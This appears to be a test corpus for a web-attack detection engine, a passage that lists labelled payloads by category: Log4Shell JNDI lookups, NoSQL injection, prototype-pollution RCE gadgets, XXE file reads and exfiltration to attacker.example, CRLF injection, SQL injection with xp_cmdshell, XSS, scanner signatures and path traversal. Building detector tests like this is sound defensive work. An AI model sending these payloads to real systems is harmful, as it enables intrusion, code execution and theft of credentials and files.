text('{"username":"\\u0024\\u007bjndi:ldap://attacker.example/a}"}', 'unicode-escaped in unparsed JSON text', 'text/plain');
h('referer', '${jndi:ldap://127.0.0.1#attacker.example:1389/a}', 'CVE-2021-45046 host bypass');
h('x-api-version', '${jndi:ldap://x.oast.fun/a}', 'scanner callback domain');
h('user-agent', '${jndi:rmi://${hostName}.attacker.example/a}', 'hostname exfiltration');
q('q', '${${lower:${upper:j}}ndi:ldap://attacker.example/a}', 'nested case lookups');
h('host', '${jndi:ldap://attacker.example/h}', 'Host header');
h('contact', '${jndi:ldap://attacker.example/c}', 'Contact header');
h('x-wap-profile', '${jndi:ldap://attacker.example/w}', 'X-Wap-Profile header');
h('origin', '${jndi:ldap://attacker.example/o}', 'Origin header');
ck('JSESSIONID', '${jndi:ldap://attacker.example/s}', 'session cookie');
json('{"username":"${jndi:ldap://attacker.example/u}","password":"x"}', 'JSON login', '/api/login');
json('{"device":{"name":"${${lower:j}ndi:ldap://attacker.example/d}"}}', 'nested JSON', '/api/devices');
form({ email: '${jndi:ldap://attacker.example/e}' }, 'form email', '/subscribe');
p('/%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fp%7D', 'encoded in path');
p('/api/$%7Bjndi:ldap://attacker.example/q%7D', 'partially encoded in path');
text('${jndi:ldap://attacker.example/t}', 'plain text body');
h('x-forwarded-for', '${jndi:ldap://attacker.example/a', 'unterminated lookup');
q('lang', '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}', 'full default obfuscation in query');

// ---------------------------------------------------------------------------------------------
category = 'nosqli';
qs({ 'username[$ne]': 'x', 'password[$ne]': 'x' }, 'not-equal auth bypass');
qs({ username: 'admin', 'password[$ne]': '' }, 'not-equal password');
qs({ 'login[$regex]': 'a.*', 'pass[$ne]': 'lol' }, 'regex login');
qs({ 'login[$gt]': 'admin', 'login[$lt]': 'test', 'pass[$ne]': '1' }, 'range login');
qs({ 'user[$exists]': 'true' }, 'exists', '/api/users');
qs({ 'username[$in][]': ['admin', 'root'] }, 'in array', '/api/users');
qs({ 'id[$where]': '1' }, 'where in bracket', '/api/items');
qs({ 'password[$regex]': '^a' }, 'regex password extraction');
qs({ 'filter[price][$gt]': '0' }, 'nested operator', '/api/products');
qs({ $where: 'sleep(5000)' }, 'top-level $where parameter', '/api/items');
qs({ 'username[$nin][0]': 'admin' }, 'nin', '/api/users');
qs({ 'user[$not][$eq]': 'x' }, 'not eq', '/api/users');
json('{"username":{"$ne":null},"password":{"$ne":null}}', 'JSON not-equal bypass', '/api/login');
json('{"username":"admin","password":{"$gt":""}}', 'JSON greater-than bypass', '/api/login');
json('{"username":{"$regex":"^adm"},"password":{"$ne":"1"}}', 'JSON regex', '/api/login');
json('{"$where":"sleep(5000)"}', 'JSON $where sleep', '/api/search');
json('{"$where":"this.password.length > 0"}', 'JSON $where property probe', '/api/search');
json('{"username":{"$in":["admin","root"]},"password":{"$exists":true}}', 'in and exists', '/api/login');
json('{"$or":[{"username":"admin"},{"username":{"$ne":null}}]}', 'or clause', '/api/login');
json('{"email":{"$regex":".*"}}', 'regex everything', '/api/users/find');
json('{"filter":{"age":{"$gte":0}}}', 'nested gte', '/api/users/find');
json('{"query":{"$expr":{"$function":{"body":"function(){sleep(5000)}","args":[],"lang":"js"}}}}', '$function server-side JS', '/api/search');
json('{"user":{"$elemMatch":{"role":"admin"}}}', 'elemMatch', '/api/users/find');
json('{"username":{"$eq":"admin"},"password":{"$nin":[]}}', 'nin empty', '/api/login');
json('{"token":{"$type":2}}', 'type probe', '/api/reset');
q('q', '{"$ne": null}', 'operator JSON in query value', '/api/items');
q('user', '{"$gt":""}', 'gt JSON in query value', '/api/items');
q('search', "', $where: '1 == 1", '$where string breakout', '/api/items');
q('name', "' || '1'=='1", 'JS tautology', '/api/items');
q('pass', "' && this.password.match(/.*/)//+\u0000", 'password regex probe', '/login');
q('u', "'; return true; var x='", 'JS return true', '/api/items');
q('q', "';sleep(5000);", 'JS sleep', '/api/items');
q('q', "';it=new Date();do{pt=new Date();}while(pt-it<5000);", 'JS busy-wait', '/api/items');
q('q', 'db.injection.insert({success:1});', 'mongo shell insert', '/api/items');
q('q', "true, $where: '1 == 1'", '$where after boolean', '/api/items');
q('q', '{ $ne: 1 }', 'unquoted operator', '/api/items');
q('q', "', $or: [ {}, { 'a':'a", 'or breakout', '/api/items');
ck('session', 'j:{"$ne":""}', 'cookie-parser JSON cookie');
form({ 'username[$ne]': 'x', 'password[$ne]': 'x' }, 'flat urlencoded not-equal', '/login');
form({ 'email[$regex]': '.*@example.com', 'password[$ne]': 'x' }, 'flat urlencoded regex', '/login');
text('{"username": {"$gt": ""}, "password": {"$gt": ""}}', 'JSON text body', 'application/json', '/api/login');
h('x-user-filter', '{"$where": "sleep(1000)"}', 'operator in custom header', '/api/items');
json('{"query":"{ users(filter: {name: {$regex: \\".*\\"}}) { id } }"}', 'operator inside GraphQL string', '/graphql');
json('{"username":{"$where":"return true"},"password":"x"}', 'nested $where', '/api/login');
qs({ 'username[$regex]': '.{1}', 'password[$regex]': '.{1}' }, 'regex length probe');

// ---------------------------------------------------------------------------------------------
category = 'proto_pollution';
qs({ '__proto__[isAdmin]': 'true' }, 'bracket __proto__', '/api/settings');
qs({ '__proto__.isAdmin': 'true' }, 'dotted __proto__', '/api/settings');
qs({ 'constructor[prototype][isAdmin]': 'true' }, 'constructor prototype brackets', '/api/settings');
qs({ 'constructor.prototype.isAdmin': 'true' }, 'constructor prototype dots', '/api/settings');
qs({ 'a[__proto__][polluted]': '1' }, 'nested __proto__', '/api/settings');
qs({ '__proto__[toString]': '1' }, 'toString override', '/api/settings');
qs({ '__proto__[sourceURL]': '\nalert(1)' }, 'lodash template sourceURL gadget', '/render');
qs({ 'x[constructor][prototype][y]': '1' }, 'nested constructor prototype', '/api/settings');
qs({ '__proto__[outputFunctionName]': "_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2" }, 'EJS RCE gadget', '/render');
qs({ '__proto__[shell]': '/proc/self/exe', '__proto__[argv0]': 'console.log(1)' }, 'child_process gadget', '/api/run');
json('{"__proto__":{"isAdmin":true}}', 'JSON __proto__', '/api/profile', 'PUT');
json('{"user":{"__proto__":{"role":"admin"}}}', 'nested JSON __proto__', '/api/profile', 'PUT');
json('{"constructor":{"prototype":{"isAdmin":true}}}', 'JSON constructor prototype', '/api/profile', 'PUT');
json('{"a":{"constructor":{"prototype":{"polluted":"yes"}}}}', 'nested constructor prototype', '/api/merge');
json('{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');s"}}', 'EJS gadget in JSON', '/api/render');
json('{"__proto__":{"status":510}}', 'PortSwigger status probe', '/api/profile', 'PATCH');
json('{"__proto__":{"json spaces":10}}', 'Express json spaces probe', '/api/profile', 'PATCH');
json('{"__proto__":{"exposedHeaders":["foo"]}}', 'cors exposedHeaders probe', '/api/profile', 'PATCH');
json('{"settings":{"__proto__":{"view options":{"client":true,"escapeFunction":"1;return process.env"}}}}', 'EJS escapeFunction gadget', '/api/settings');
json('[{"__proto__":{"x":1}}]', 'array root', '/api/batch');
json('{"path":"__proto__.isAdmin","value":true}', 'lodash.set path in value', '/api/config/set');
json('{"key":"constructor.prototype.isAdmin","value":"1"}', 'constructor path in value', '/api/config/set');
json('{"merge":{"__proto__":{"polluted":true}}}', 'deep merge payload', '/api/merge');
text('{"__proto__": {"admin": true}}', 'unparsed JSON text', 'application/json', '/api/profile');
text('{"\\u005f_proto__":{"admin":true}}', 'unicode-escaped key', 'application/json', '/api/profile');
text('{"constructor": {"prototype": {"admin": true}}}', 'unparsed constructor prototype', 'application/json', '/api/profile');
form({ '__proto__[admin]': 'true' }, 'flat form key', '/settings');
form({ 'constructor[prototype][admin]': 'true' }, 'flat form constructor', '/settings');
q('key', '__proto__.polluted', 'path expression in value', '/api/get');
p('/api/users/__proto__/admin', '__proto__ as path segment');
p('/config/constructor/prototype/polluted', 'constructor/prototype path segments');
ck('prefs', 'j:{"__proto__":{"admin":true}}', 'JSON cookie');
h('x-config', '{"__proto__":{"debug":true}}', 'JSON in custom header');
qs({ 'filter[__proto__][isAdmin]': '1' }, 'filter __proto__', '/api/items');
qs({ '__proto__[allowedHosts][]': 'evil.example' }, 'array gadget', '/api/settings');
json('{"__proto__":{"shell":"node","NODE_OPTIONS":"--inspect=attacker.example:1337"}}', 'NODE_OPTIONS gadget', '/api/settings');
json('{"items":[{"__proto__":{"polluted":1}}]}', '__proto__ inside array', '/api/cart');
qs({ 'constructor[prototype][polluted]': 'yes' }, 'constructor prototype probe', '/');
qs({ '__pro__proto__to__[x]': '1' }, 'bypass for single-pass stripping', '/api/settings');

// ---------------------------------------------------------------------------------------------
category = 'xxe';
const xml = (body: string, note: string, path = '/api/v1/import', type = 'application/xml'): void => text(body, note, type, path);
xml('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', 'classic file read');
xml('<?xml version="1.0"?><!DOCTYPE data [<!ENTITY file SYSTEM "file:///c:/windows/win.ini">]><data>&file;</data>', 'Windows file read');
xml('<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://attacker.example/evil.dtd"> %xxe;]><foo/>', 'parameter entity');
xml('<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo>x</foo>', 'external DTD');
xml('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>', 'billion laughs');
xml('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>', 'XInclude');
xml('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><foo>&xxe;</foo>', 'XXE to SSRF');
xml('<!DOCTYPE foo [<!ENTITY xxe PUBLIC "any" "http://attacker.example/x">]><foo>&xxe;</foo>', 'public external entity');
xml('<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/hosts">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&xxe;</id></getUser></soap:Body></soap:Envelope>', 'SOAP request', '/soap', 'text/xml');
xml('<?xml version="1.0" standalone="yes"?><!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>', 'SVG upload', '/api/v1/avatar', 'image/svg+xml');
xml('<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://x.oastify.com/x.dtd">%remote;%int;%trick;]><r/>', 'out-of-band DTD');
xml('<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "expect://id">]><foo>&xxe;</foo>', 'expect wrapper');
xml('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><foo>&xxe;</foo>', 'php filter');
xml('<!doctype foo [<!entity xxe system "file:///etc/passwd">]><foo>&xxe;</foo>', 'lower-case keywords');
xml('<!DOCTYPE foo [\n  <!ENTITY\n    xxe\n    SYSTEM\n    "file:///etc/passwd"\n  >\n]>\n<foo>&xxe;</foo>', 'line breaks inside declaration');
xml('<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://attacker.example/combine.dtd">%dtd;]><foo/>', 'remote DTD via parameter entity');
xml('<!DOCTYPE svg [<!ENTITY % a SYSTEM "jar:http://attacker.example/x.zip!/x.dtd">%a;]><svg/>', 'jar protocol');
xml('<!DOCTYPE a [<!ENTITY b SYSTEM "netdoc:///etc/passwd">]><a>&b;</a>', 'netdoc protocol');
q('xml', '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', 'XML in query parameter', '/api/parse');
q('data', '%3C!DOCTYPE%20foo%20%5B%3C!ENTITY%20xxe%20SYSTEM%20%22file:///etc/passwd%22%3E%5D%3E', 'double-encoded XML in query', '/api/parse');
q('SAMLResponse', '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://attacker.example/a.dtd">%a;]><x/>', 'XXE in SAML parameter', '/sso/acs');
json('{"xml":"<!DOCTYPE a [<!ENTITY b SYSTEM \\"file:///etc/passwd\\">]><a>&b;</a>"}', 'XML inside JSON', '/api/convert');
json('{"document":{"content":"<?xml version=\\"1.0\\"?><!DOCTYPE r [<!ENTITY x SYSTEM \\"file:///etc/shadow\\">]><r>&x;</r>"}}', 'nested XML inside JSON', '/api/documents');
form({ payload: '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>' }, 'XML in form field', '/import');
form({ xml: '<data xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></data>' }, 'XInclude in form', '/import');
ck('prefs', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', 'XML in cookie');
xml('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&xxe;</title></channel></rss>', 'RSS import', '/feeds/import');
xml('<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE foo [<!ELEMENT foo ANY ><!ENTITY xxe SYSTEM "file:///dev/random" >]><foo>&xxe;</foo>', 'denial of service via /dev/random');
xml('<!DOCTYPE foo [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://attacker.example/?x=%file;\'>">%eval;%exfil;]><foo/>', 'parameter entity exfiltration');
xml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>', 'bare XInclude');
xml('<!DOCTYPE x PUBLIC "-//x//y" "http://attacker.example/x.dtd"><x/>', 'public id with external DTD');
xml('<!DOCTYPE kaboom [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">]><kaboom>&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;</kaboom>', 'quadratic blowup');
xml('<?xml version="1.0"?><!DOCTYPE replace [<!ENTITY ent SYSTEM "file:///etc/shadow"> ]><userInfo><firstName>John</firstName><lastName>&ent;</lastName></userInfo>', 'entity in form-like XML', '/api/users', 'text/xml');
xml('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><plist version="1.0"><dict><key>a</key><string>&xxe;</string></dict></plist>', 'plist upload', '/api/v1/config');
xml('<!DOCTYPE foo [ <!ENTITY % xxe SYSTEM "file:///etc/passwd"> ]><foo/>', 'parameter entity with file');
xml('<?xml version="1.0"?><!DOCTYPE updateProfile [<!ENTITY file SYSTEM "file:///var/www/html/.env">]><updateProfile><bio>&file;</bio></updateProfile>', 'dotenv read', '/profile', 'text/xml');
h('x-xml-payload', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', 'XML in custom header', '/api/parse');

// ---------------------------------------------------------------------------------------------
category = 'crlf';
q('redirect', '/\r\nSet-Cookie: session=attacker', 'set-cookie after CRLF', '/login');
q('next', '\r\nLocation: https://evil.example', 'location injection', '/login');
q('lang', 'en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>', 'full response splitting', '/');
q('page', 'x\r\n\r\n<html>injected</html>', 'body injection after blank line', '/');
q('q', '%0d%0aSet-Cookie:%20x=1', 'double-encoded CRLF');
q('q', '\nSet-Cookie:crlf=injection', 'LF only');
q('q', '\rSet-Cookie:x=1', 'CR only');
q('q', '嘊嘍Set-Cookie: x=1', 'unicode CRLF (U+560A U+560D)');
q('q', '\r\nX-XSS-Protection: 0', 'disable XSS protection');
q('q', '#\rSet-Cookie:x=1', 'hash then CR');
q('q', '?\rSet-Cookie:x=1', 'question mark then CR');
q('q', 'test\r\nAccess-Control-Allow-Origin: *', 'CORS injection');
q('q', '\r\n Set-Cookie:x=1', 'CRLF with leading space');
q('q', '%u000d%u000aSet-Cookie:x=1', '%u-encoded CRLF');
q('url', 'https://example.com%0d%0aContent-Type:%20text/html', 'content-type injection', '/out');
q('callback', 'a\r\nContent-Disposition: attachment; filename=x.bat', 'download injection', '/jsonp');
q('q', '\r\nRefresh: 0;url=https://evil.example', 'refresh injection');
q('id', '1\r\nContent-Security-Policy: default-src *', 'CSP override', '/item');
q('ret', '\r\n\r\nHTTP/1.1 200 OK', 'second response', '/logout');
q('q', '\r\nLink: <https://evil.example/x.css>;rel=stylesheet', 'link header');
p('/%0d%0aSet-Cookie:%20crlf=injection', 'CRLF in path');
p('/redirect%0d%0aLocation:%20https://evil.example', 'location in path');
p('/%0aHeader-Test:BLATRUC', 'LF and custom header in path');
p('/api/%E5%98%8A%E5%98%8DSet-Cookie:x=1', 'unicode CRLF in path');
p('/%23%0dSet-Cookie:x=1', 'hash CR in path');
p('/foo%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E', 'body injection in path');
p('/%250d%250aSet-Cookie:x=1', 'double-encoded in path');
h('referer', 'https://example.com/%0d%0aSet-Cookie:x=1', 'encoded CRLF in referer');
h('x-forwarded-for', '127.0.0.1%0d%0aX-Injected: yes', 'encoded CRLF in X-Forwarded-For');
h('user-agent', 'Mozilla/5.0%0d%0aX-Forwarded-For: 127.0.0.1', 'encoded CRLF in user agent');
h('x-forwarded-host', 'example.com%0d%0aLocation: https://evil.example', 'encoded CRLF in X-Forwarded-Host');
ck('lang', 'en\r\nSet-Cookie: admin=1', 'CRLF in cookie');
ck('returnTo', '/home\r\nLocation: https://evil.example', 'location via cookie');
qs({ 'x\r\nSet-Cookie: y': '1' }, 'CRLF in parameter name', '/');
json('{"redirect":"/home\\r\\nSet-Cookie: sid=attacker"}', 'CRLF in JSON redirect field', '/api/session');
form({ redirect_uri: '/cb\r\nSet-Cookie: sid=x' }, 'CRLF in form redirect', '/oauth/authorize');
q('file', 'report.pdf\r\nContent-Type: text/html', 'content-type in filename', '/download');
q('q', '%E5%98%8A%E5%98%8DLocation:%20https://evil.example', 'double-encoded unicode CRLF');

// ---------------------------------------------------------------------------------------------
category = 'scanner';
h('user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)', 'sqlmap', '/products');
h('user-agent', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)', 'Nikto');
h('user-agent', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'Nmap NSE');
h('user-agent', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'masscan');
h('user-agent', 'Mozilla/5.0 zgrab/0.x', 'zgrab');
h('user-agent', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'Nuclei');
h('user-agent', 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 'WPScan', '/wp-login.php');
h('user-agent', 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 'DirBuster', '/admin');
h('user-agent', 'gobuster/3.6', 'gobuster', '/backup');
h('user-agent', 'Fuzz Faster U Fool v2.1.0-dev', 'ffuf', '/FUZZ');
h('user-agent', 'Wfuzz/3.1.0', 'wfuzz', '/test');
h('user-agent', 'Mozilla/5.0 (compatible; OpenVAS-VT 22.4.1)', 'OpenVAS');
h('user-agent', 'Nessus SOAP v0.0.1 (Nessus.org)', 'Nessus');
h('user-agent', 'w3af.org', 'w3af');
h('user-agent', 'Arachni/v1.5.1', 'Arachni');
h('user-agent', 'Mozilla/5.0 SF/2.10b', 'skipfish');
h('user-agent', 'Jaeles - Automated Web Application Testing', 'Jaeles');
h('user-agent', 'commix/v3.8-stable (https://commixproject.com)', 'commix', '/ping');
h('user-agent', 'Mozilla/4.0 (Hydra)', 'THC Hydra', '/login');
h('user-agent', 'feroxbuster/2.10.1', 'feroxbuster', '/api');
h('user-agent', 'Mozilla/5.0 (compatible; OWASP ZAP/2.14.0)', 'OWASP ZAP');
h('user-agent', 'Havij', 'Havij', '/news.php');
h('user-agent', 'Mozilla/5.0 (compatible; Netsparker)', 'Netsparker');
h('user-agent', 'WhatWeb/0.5.5', 'WhatWeb');
h('user-agent', 'Wapiti-3.1.8 (wapiti-scanner.github.io)', 'Wapiti');
h('user-agent', 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)', 'Censys');
h('user-agent', 'xray/1.9.11 (Chaitin)', 'xray');
h('user-agent', 'ZmEu', 'ZmEu', '/phpmyadmin/scripts/setup.php');
h('user-agent', 'Mozilla/5.0 (Jorgee)', 'Jorgee', '/pma/');
h('user-agent', 'Morfeus Fucking Scanner', 'Morfeus', '/webdav/');
h('user-agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 XSStrike', 'XSStrike');
h('acunetix-product', 'WVS/14.0 (Acunetix Web Vulnerability Scanner)', 'Acunetix product header');
h('acunetix-aspect', 'enabled', 'Acunetix aspect header');
h('x-scanner', 'Netsparker', 'X-Scanner header');
h('x-wipp', 'AscVersion=22.1.0.139', 'WebInspect header');
h('x-request-memo', 'ID=3ab1c4e8-5d21-4f0a-9c5e-2b1d0e9f8a71;ThreadId=12', 'WebInspect request memo');
h('x-scan-memo', 'Category="Audit";Function="createStateRequestFromAttackDefinition"', 'WebInspect scan memo');
q('url', 'http://abc123xyz.burpcollaborator.net/', 'Burp Collaborator callback', '/fetch');
h('x-forwarded-host', 'c2kh3kv1k2l3.oastify.com', 'oastify in X-Forwarded-Host');
h('referer', 'http://xyz9k2.interact.sh/', 'interactsh in referer');
json('{"webhook":"https://cq0f2k1p6x.oast.fun/"}', 'oast.fun in webhook', '/api/webhooks');
q('email', 'test@x7k2.dnslog.cn', 'dnslog email', '/newsletter');
q('q', '"><script src=https://xss.bxss.me/t/xss.js></script>', 'Acunetix blind XSS domain');
p('/.env', 'dotenv probe');
p('/.git/config', 'git config probe');
p('/.git/HEAD', 'git HEAD probe');
p('/.aws/credentials', 'AWS credentials probe');
p('/.svn/entries', 'Subversion probe');
p('/.DS_Store', 'DS_Store probe');
p('/wp-config.php.bak', 'WordPress config backup probe');
p('/.htpasswd', 'htpasswd probe');
p('/app/.env.production', 'nested dotenv probe');

// =============================================================================================
// Round 2: a second batch written after the first evaluation, to check that the engine
// generalises beyond the payloads it was first measured on. Not edited after measuring.

category = 'sqli';
q('id', 'or 1=1--', 'bare or tautology', '/item');
q('q', "' OR '1", 'unbalanced probe');
q('username', "admin'or 1=1 or ''='", 'no-space auth bypass', '/login');
q('q', "' AND (SELECT SUBSTRING(@@version,1,1))='5'--", 'version fingerprinting');
q('q', "'; SELECT SLEEP(5)--", 'stacked sleep');
q('q', "' OR (SELECT 1/0) --", 'division by zero error');
q('q', "' OR IF(1=1, SLEEP(5), 0) --", 'conditional sleep');
q('id', "1' AND '1'='2", 'false condition probe', '/item');
q('q', "')) OR (('1'='1", 'double parenthesis tautology');
q('id', '1 AND 1=1', 'numeric true condition', '/item');
q('id', "1' AND 1=1--+", 'true condition with plus comment', '/item');
q('id', "-1' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()-- -", 'table enumeration', '/item');
q('id', '1 union select 1,2,3', 'lower-case union without quote', '/item');
q('id', "1' and substring(version(),1,1)=5--", 'substring version', '/item');
q('q', "' and 1 in (select min(name) from sysobjects where xtype = 'U' and name > '.') --", 'MSSQL sysobjects');
q('id', "1;exec master..xp_cmdshell 'ping 10.0.0.1'--", 'xp_cmdshell ping', '/item');
q('q', "'||(SELECT '')||'", 'Oracle concatenation');
q('q', "' || (select pg_sleep(10))--", 'PostgreSQL concat sleep');
q('id', "1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL) AND 'vRxe'='vRxe", 'sqlmap string-suffixed sleep', '/item');
q('username', 'admin")) OR 1=1#', 'double-quote double parenthesis', '/login');
p('/login/admin%27%20or%20%271%27%3D%271', 'tautology in path');
q('q', "' or 1=1 limit 1 -- -+", 'limit with comment');
q('q', '" OR ""="', 'empty double-quote tautology');
q('id', "1' ORDER BY 1,2,3,4,5--", 'order by list', '/item');
q('id', '-1 OR 2+811-811-1=0+0+0+1 --', 'arithmetic tautology', '/item');
q('q', 'if(now()=sysdate(),sleep(15),0)', 'scanner sleep probe');
q('q', "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z", 'scanner XOR sleep probe');
q('q', '(select(0)from(select(sleep(15)))v)/*\'+(select(0)from(select(sleep(15)))v)+\'"+(select(0)from(select(sleep(15)))v)+"*/', 'Acunetix sleep polyglot');
q('id', "1 waitfor delay '0:0:15' --", 'waitfor probe', '/item');
q('id', "-1; exec master..xp_cmdshell 'whoami'", 'stacked xp_cmdshell', '/item');
q('id', "1' and extractvalue(rand(),concat(0x3a,(select concat(0x3a,schema_name) from information_schema.schemata limit 0,1)))-- -", 'schema via extractvalue', '/item');
form({ username: 'admin', password: "' or 'x'='x" }, 'password field tautology', '/login');
h('user-agent', "' or sleep(5) #", 'sleep in user agent');
h('x-forwarded-for', "1' and sleep(5)='", 'sleep in X-Forwarded-For');
ck('PHPSESSID', "x' OR '1'='1", 'tautology in PHP session cookie');
json('{"ids":[1,"2) UNION SELECT password FROM users--"]}', 'union inside JSON array', '/api/items/batch');
q('id', "%' and 1=0 union select null, concat(first_name,0x0a,last_name,0x0a,user,0x0a,password) from users #", 'DVWA union');
q('id', "1' and 1=0 union all select null, table_name from information_schema.tables where table_name like 'user%'#", 'DVWA table enumeration');

category = 'xss';
q('q', '<img src=x onerror=prompt(1)>', 'prompt');
q('q', '<svg onload=confirm(1)>', 'confirm');
q('q', '<body background="javascript:alert(\'XSS\')">', 'body background');
q('q', '<TABLE BACKGROUND="javascript:alert(\'XSS\')">', 'table background');
q('q', '<input type="image" src="javascript:alert(\'XSS\');">', 'input image');
q('q', '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">', 'link stylesheet');
q('q', '<BASE HREF="javascript:alert(\'XSS\');//">', 'base href');
q('q', '<audio src=x onerror=alert(1)>', 'audio onerror');
q('q', '<select autofocus onfocus=alert(1)>', 'select onfocus');
q('q', '<textarea autofocus onfocus=alert(1)>', 'textarea onfocus');
q('q', '<keygen autofocus onfocus=alert(1)>', 'keygen onfocus');
q('q', '<svg><set onbegin=alert(1) attributename=x to=1>', 'svg set onbegin');
q('q', '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>', 'animation start');
q('q', '<xss onpointerover=alert(1)>XSS</xss>', 'pointer event');
q('q', '"><svg/onload=alert(String.fromCharCode(88,83,83))>', 'breakout svg fromCharCode');
q('q', '\'"><img src=x onerror=alert(document.domain)>', 'both quotes breakout');
q('q', 'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>', 'polyglot 2');
q('q', '%3Csvg%20onload%3Dalert(1)%3E', 'double-encoded svg');
q('q', '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e', 'hex escapes');
q('q', '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">', 'entity-encoded handler');
q('q', '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', 'foreignObject srcdoc');
q('q', '<object data=javascript:alert(1)>', 'object javascript');
q('q', '<isindex type=image src=1 onerror=alert(1)>', 'isindex');
q('q', '</textarea><script>alert(1)</script>', 'textarea breakout');
q('q', '</title><svg onload=alert(1)>', 'title breakout');
q('q', '"autofocus onfocus="alert(1)', 'attribute injection without space');
q('q', 'x" onerror="alert(1)', 'onerror injection');
q('q', "'-prompt(1)-'", 'JS expression breakout');
q('q', "\\'-alert(1)//", 'escaped quote breakout');
q('q', '${alert(1)}', 'template literal');
q('q', '<a href=# onclick="alert(1)">x</a>', 'anchor onclick');
q('q', '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknIC8+PC9zdmc+#x" />', 'svg use data URL');
q('q', '<iframe src="vbscript:msgbox(1)">', 'vbscript');
q('q', '<img src="javascript:alert(\'XSS\')"', 'unterminated tag');
q('q', '<body onpageshow=alert(1)>', 'pageshow');
q('q', '<video poster=javascript:alert(1)//></video>', 'video poster');
q('q', '<math href="javascript:javascript:alert(1)">CLICKME</math>', 'math href');
json('{"message":"<svg/onload=alert`1`>"}', 'tagged template call', '/api/messages');
ck('username', '<script>alert(1)</script>', 'script in username cookie');
h('user-agent', '"><script src=//attacker.example/x.js></script>', 'remote script in user agent');

category = 'path_traversal';
q('file', '../../../../../../../../etc/passwd\u0000', 'trailing null byte', '/download');
p('/..%2f..%2f..%2f..%2fetc/passwd', 'encoded slashes at path start');
q('file', '..%255c..%255c..%255cboot.ini', 'double-encoded backslashes', '/download');
q('file', '%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 'overlong dots', '/download');
